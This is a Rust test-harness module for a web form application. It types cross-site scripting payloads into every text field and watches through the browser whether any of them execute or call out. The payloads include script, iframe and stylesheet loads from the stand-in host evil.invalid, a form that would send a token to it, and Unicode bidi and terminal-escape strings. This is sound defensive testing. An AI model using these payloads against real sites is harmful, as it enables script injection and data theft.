//! What a hostile hand types, and whether any of it becomes more than words.

use std::collections::BTreeSet;

use serde_json::json;

use crate::chromium::Tab;
use crate::people::Office;

/// Each would tell of itself by calling `ran`, or by a request that leaves.
pub const HOSTILE: [&str; 7] = [
    "<script>ran('script')</script><img src=//evil.invalid/a onerror=ran('img')><svg onload=ran('svg')>",
    "\" autofocus onfocus=ran('focus') x=\"' onmouseover=ran('over') '",
    "</textarea></title><script src=http://evil.invalid/b.js></script><iframe src=http://evil.invalid/c></iframe>",
    "<style>@import url(http://evil.invalid/d)</style><link rel=stylesheet href=//evil.invalid/e><base href=//evil.invalid/>",
    "javascript:ran('url') data:text/html,<script>ran('data')</script> {{constructor.constructor('ran(1)')()}}",
    "<form action=//evil.invalid/f><input name=token></form><meta http-equiv=refresh content='0;url=http://evil.invalid/g'>&lt;b&gt;",
    concat!("<b onclick=ran('turned')>", "turned \u{202E}round \u{2067}a\u{1B}[2Jterminal"),
];

/// What of the last is not for names.
const TURNED: &str = "turned \u{202E}round \u{2067}a\u{1B}[2Jterminal";

/// Each is refused in a name, a position or a reference, with the words kept
/// in the field.
pub const REFUSED: [&str; 5] =
    ["turned \u{202E}round", "isolated \u{2067}words", "a\u{1B}[2Jterminal", "n\u{0}ul", "un\u{2062}seen"];

/// The fields for names, positions and references.
const NAMES: [&str; 11] = [
    "first-name",
    "first-position",
    "second-name",
    "second-position",
    "subject",
    "computer",
    "by",
    "contact",
    "reference",
    "to",
    "role",
];

#[derive(Default)]
pub struct Watch {
    asked: BTreeSet<String>,
    wrong: Vec<String>,
}

impl Watch {
    pub fn begin(tab: &Tab) -> Watch {
        tab.call("Runtime.addBinding", json!({ "name": "ran" }));
        tab.said();
        Watch::default()
    }

    /// What the page did by itself since it was asked last.
    pub fn look(&mut self, tab: &Tab, ours: &str) {
        for said in tab.said() {
            match said.method.as_str() {
                "Runtime.bindingCalled" | "Page.javascriptDialogOpening" => {
                    self.wrong.push(format!("{}: ran {}", tab.path(), said.params));
                }
                "Network.requestWillBeSent" => {
                    let url = said.params["request"]["url"].as_str().unwrap_or_default().to_owned();
                    if !url.starts_with(ours) {
                        self.wrong.push(format!("{}: asked for {url}", tab.path()));
                    }
                    self.asked.insert(url);
                }
                // A policy that had to step in means that words became markup.
                "Log.entryAdded" if said.params["entry"]["source"] == "security" => {
                    self.wrong.push(format!("{}: {}", tab.path(), said.params["entry"]["text"]));
                }
                _ => {}
            }
        }
        let foreign = tab.eval("document.querySelectorAll('iframe, svg, img:not([src^=\"/\"]), [onerror], [onload], [onfocus], [onmouseover], base, script:not([src=\"/assets/guide.js\"]), style, main meta').length");
        if foreign != 0 {
            self.wrong.push(format!("{}: {foreign} elements that are not the guide's", tab.path()));
        }
    }

    pub fn none(&self) {
        assert!(self.asked.len() > 10, "{:?}", self.asked);
        assert!(self.wrong.is_empty(), "{}", self.wrong.join("\n"));
    }
}

pub fn every_text_field(tab: &Tab) -> Vec<String> {
    let names =
        tab.eval("[...document.querySelectorAll('main input[type=text], main textarea')].map(e => e.name)");
    names.as_array().into_iter().flatten().filter_map(|name| name.as_str().map(str::to_owned)).collect()
}

/// Sets a field as a program would that types what no keyboard types.
pub fn set(tab: &Tab, name: &str, value: &str) {
    let value = serde_json::to_string(value).expect("JSON");
    tab.eval(&format!("document.getElementsByName('{name}')[0].value = {value}"));
}

pub fn send(tab: &Tab) {
    tab.leave(|tab| drop(tab.eval("document.querySelector('main form').requestSubmit(), 0")));
}

/// Every text field of the page but those that are answered by `also`: words
/// that are refused in names first, then hostile ones that go through.
pub fn attack(office: &Office, watch: &mut Watch, also: &[(&str, &str)], turn: usize) {
    let (tab, ours) = (&office.tab, office.url("/"));
    let page = tab.path();
    let mut fields = every_text_field(tab);
    fields.retain(|name| also.iter().all(|(known, _)| known != name));
    // Whom people told, and what they said of the computer, is in words of any
    // kind.
    let told = |name: &str| matches!(name, "to" | "computer") && page.contains("/refer");
    let in_words = |name: &str| !NAMES.contains(&name) || told(name);
    for name in fields.iter().filter(|name| !in_words(name)) {
        for refused in REFUSED {
            for (other, value) in also {
                tab.fill(other, value);
            }
            for other in &fields {
                set(tab, other, "Words");
            }
            set(tab, name, refused);
            send(tab);
            watch.look(tab, &ours);
            // A browser takes a NUL out of a field or the guide refuses it.
            let stayed = tab.path() == page;
            assert!(stayed, "{page} took {refused:?} in {name}: {}", tab.words());
            tab.sees("There is a problem");
        }
    }
    for (place, name) in fields.iter().enumerate() {
        let words = HOSTILE[(turn + place) % HOSTILE.len()];
        set(tab, name, if in_words(name) { words } else { words.trim_end_matches(TURNED) });
    }
    for (other, value) in also {
        tab.fill(other, value);
    }
    send(tab);
    watch.look(tab, &ours);
}
